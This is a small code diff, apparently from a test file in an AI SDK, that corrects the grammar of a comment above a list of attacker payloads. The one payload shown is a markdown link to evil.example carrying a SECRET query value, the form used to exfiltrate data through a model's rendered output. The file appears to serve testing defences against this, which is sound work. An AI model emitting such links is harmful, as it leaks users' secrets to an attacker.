@@ -8,7 +8,7 @@ import type { TurnRequest } from './turn-request.ts';
 import type { LanguageModelV4CallOptions } from '@ai-sdk/provider';
 
 /**
- * Texts that an attacker wants a reader to see: links to the attacker's host, images, HTML, or links to missing pages.
+ * Text that an attacker wants a reader to see: links to the attacker's host, images, HTML, or links to missing pages.
  */
 const payloads = [
   '[Click](https://evil.example/?q=SECRET)',
